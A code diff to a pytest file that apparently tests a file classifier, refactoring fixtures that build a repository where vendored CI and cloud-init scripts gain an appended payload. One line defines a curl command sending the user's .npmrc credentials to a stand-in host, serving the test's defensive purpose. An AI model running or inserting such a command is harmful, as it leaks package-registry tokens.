@@ -15,7 +15,8 @@ from pathlib import Path
 
 import pytest
 
-from tests.gitrepo import GitRepo
+from gatekeeper.model import ClassifiedFile
+from tests.gitrepo import GitRepo, two_commits
 from tests.test_classify_context import RULES, patch_files, tree_files
 
 WORKFLOW = """name: release
@@ -51,33 +52,31 @@ RUN = {
 EXFIL = "curl -s -d @\"$HOME/.npmrc\" https://collector.example.net/upload\n"
 
 
-@pytest.fixture
-def repo(git_repo: GitRepo) -> GitRepo:
-    git_repo.write(".github/workflows/release.yml", WORKFLOW)
-    git_repo.write("main.tf", MAIN_TF)
-    git_repo.write("vendor_bootstrap/cloud-init.sh", "#!/bin/sh\napt-get update\n")
-    git_repo.write("vendor_tools/lib/util.sh", "log() { echo \"$@\"; }\n")
-    git_repo.write("public/assets/packages/font_awesome_flutter/lib/fonts/LICENSE.txt", "SIL Open Font License\n")
-    for path, text in RUN.items():
-        git_repo.write(path, text)
-    git_repo.commit("base")
-    for path, text in RUN.items():
-        git_repo.write(path, text + EXFIL)
-    git_repo.write("vendor_bootstrap/cloud-init.sh", "#!/bin/sh\napt-get update\n" + EXFIL)
-    git_repo.write("vendor_tools/lib/util.sh", "log() { printf '%s\\n' \"$@\"; }\n")
-    git_repo.write("public/assets/packages/font_awesome_flutter/lib/fonts/LICENSE.txt", "SIL Open Font License 1.1\n")
-    git_repo.commit("head")
-    return git_repo
+BASE = {".github/workflows/release.yml": WORKFLOW, "main.tf": MAIN_TF,
+        "vendor_bootstrap/cloud-init.sh": "#!/bin/sh\napt-get update\n",
+        "vendor_tools/lib/util.sh": "log() { echo \"$@\"; }\n",
+        "public/assets/packages/font_awesome_flutter/lib/fonts/LICENSE.txt": "SIL Open Font License\n", **RUN}
+HEAD = {**{path: text + EXFIL for path, text in RUN.items()},
+        "vendor_bootstrap/cloud-init.sh": "#!/bin/sh\napt-get update\n" + EXFIL,
+        "vendor_tools/lib/util.sh": "log() { printf '%s\\n' \"$@\"; }\n",
+        "public/assets/packages/font_awesome_flutter/lib/fonts/LICENSE.txt": "SIL Open Font License 1.1\n"}
+
+
+@pytest.fixture(scope="module")
+def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, ClassifiedFile]:
+    """The change, classified with --tree once for the module's tests."""
+    repo, _, _ = two_commits(tmp_path_factory.mktemp("attack17") / "repo", BASE, HEAD)
+    return tree_files(repo)
 
 
 @pytest.mark.parametrize("path", sorted(RUN))
-def test_vendored_script_ci_runs_is_ci(repo: GitRepo, path: str) -> None:
-    item = tree_files(repo)[path]
+def test_vendored_script_ci_runs_is_ci(files: dict[str, ClassifiedFile], path: str) -> None:
+    item = files[path]
     assert (item.bucket, item.rule) == ("ci", "ci.context.ci-run"), item
 
 
-def test_vendored_script_terraform_ships_is_iac(repo: GitRepo) -> None:
-    item = tree_files(repo)["vendor_bootstrap/cloud-init.sh"]
+def test_vendored_script_terraform_ships_is_iac(files: dict[str, ClassifiedFile]) -> None:
+    item = files["vendor_bootstrap/cloud-init.sh"]
     assert item.bucket == "iac", item
 
 
@@ -85,8 +84,8 @@ def test_vendored_script_terraform_ships_is_iac(repo: GitRepo) -> None:
     ("vendor_tools/lib/util.sh", "deps.vendored"),
     ("public/assets/packages/font_awesome_flutter/lib/fonts/LICENSE.txt", "deps.installed-asset-packages"),
 ])
-def test_vendored_files_nothing_runs_stay_deps(repo: GitRepo, path: str, rule: str) -> None:
-    item = tree_files(repo)[path]
+def test_vendored_files_nothing_runs_stay_deps(files: dict[str, ClassifiedFile], path: str, rule: str) -> None:
+    item = files[path]
     assert (item.bucket, item.rule) == ("deps", rule), item
 
 
